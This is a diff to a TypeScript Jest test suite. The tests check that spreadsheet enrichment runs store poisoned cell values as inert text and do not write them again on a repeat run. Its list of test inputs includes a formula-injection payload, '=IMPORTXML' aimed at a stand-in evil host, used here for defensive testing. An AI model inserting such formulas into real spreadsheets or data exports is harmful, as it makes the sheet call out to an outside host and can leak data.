@@ -8,7 +8,7 @@ import type { Cell, Platform } from '../../src/sheet/ports';
 import type { RowTask } from '../../src/sheet/runs/task';
 import { MemorySheet } from '../fakes/platform/memory-book';
 import { World } from '../fakes/platform/memory-platform';
-import { discovery, runThrough } from '../support/runs';
+import { discovery, newest, runThrough } from '../support/runs';
 
 const texts = [
   '=IMPORTXML("https://evil.example","//a")',
@@ -52,6 +52,7 @@ function poisoned(text: string): { world: World; written: Cell[] } {
       return { ...outcome, body: JSON.stringify(JSON.parse(outcome.body, swap)) };
     });
   const written: Cell[] = [];
+  const { write } = MemorySheet.prototype;
   jest.spyOn(MemorySheet.prototype, 'write').mockImplementation(function (
     this: MemorySheet,
     row,
@@ -59,12 +60,7 @@ function poisoned(text: string): { world: World; written: Cell[] } {
     values,
   ) {
     written.push(...values.flat());
-    values.forEach((line, i) => {
-      line.forEach((value, j) => {
-        const shown = typeof value === 'string' ? value.replace(/^'/, '') : value;
-        this.put(row + i, column + j, shown);
-      });
-    });
+    write.call(this, row, column, values);
   });
   return { world, written };
 }
@@ -104,13 +100,18 @@ describe.each(texts.map((text) => [JSON.stringify(text).slice(0, 24), text]))('%
     ['of companies', { kind: 'enrich-accounts', fields: ['name'] }, 'Company', 'a.example'],
     ['of contacts', { kind: 'find-contacts', emails: true, phones: false }, 'Email', 4],
     ['of employment', { kind: 'verify-employment' }, 'Works as', 4],
-  ])('lands as text by a run %s', (_, task, header, key) => {
+  ])('lands as text by a run %s, once', (_, task, header, key) => {
     const { world, written } = poisoned(text);
     const sheet = world.book.add('S', [['Key'], [key]]);
     runThrough(world, sheet, { task, cap: 100 });
     expect(shows(sheet.column(header)[0], text)).toBe(true);
     expect(written.filter(isFormula)).toEqual([]);
     expect(written.filter(isTooLong)).toEqual([]);
+    written.splice(0);
+    runThrough(world, sheet, { task, cap: 100, which: 'everything' });
+    expect(newest(world)).toMatchObject({ number: 2, counts: { found: 1 } });
+    const bare = (cell: Cell) => (typeof cell === 'string' ? cell.replace(/^'/, '') : cell);
+    expect(written.filter((cell) => shows(bare(cell), text))).toEqual([]);
   });
 
   it('lands as text in the sheet of people', () => {
